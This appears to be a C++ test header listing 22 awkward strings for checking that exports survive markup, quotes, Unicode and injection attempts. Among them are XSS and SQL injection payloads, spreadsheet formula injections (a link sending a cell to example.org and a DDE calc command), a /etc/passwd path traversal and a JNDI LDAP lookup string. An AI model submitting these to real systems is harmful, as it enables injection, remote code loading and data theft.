/// @file
/// Text that has broken exports elsewhere: markup, quotes, formulas, paths, other scripts and
/// directions, odd spaces.
#pragma once

#include <array>
#include <string>
#include <string_view>

namespace rightful::app {

inline constexpr std::array<std::string_view, 22> kHostileTexts = {
    "<script>alert('voice')</script>",
    "</td></tr></table><img src=x onerror=alert(1)>",
    "\"quoted\", 'single', `back` and \\ backslash",
    "'); DROP TABLE account;--",
    "=HYPERLINK(\"http://example.org/?q=\"&A1,\"open\")",
    "+49-1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "../../../../etc/passwd",
    "C:\\Windows\\System32\\drivers\\etc\\hosts",
    "file:///dev/null",
    "👩‍👩‍👧‍👦 says 🎶 play it again 🎶",
    "שלום, מה השעה?",
    "مرحبا كيف الطقس اليوم",
    "left \u202Eright-to-left override\u202C left",
    "e\u0301 is not \u00E9, and \u212B is not \u00C5",
    "zero\u200Bwidth\u200Dspaces\uFEFF",
    "tab\there, line\nbreak, carriage\rreturn",
    "&amp; &lt;b&gt; &#x41; are not entities here",
    "{{7*7}} ${jndi:ldap://example.org/a} %s%n %00",
    "NULL",
    "\\N",
    "]]> <!-- --> ?> */ */",
};

/// A text of `size_bytes` (at least 200) that repeats a paragraph with markup, and holds `mark`
/// near its middle.
[[nodiscard]] std::string long_text(std::size_t size_bytes, std::string_view mark);

}  // namespace rightful::app
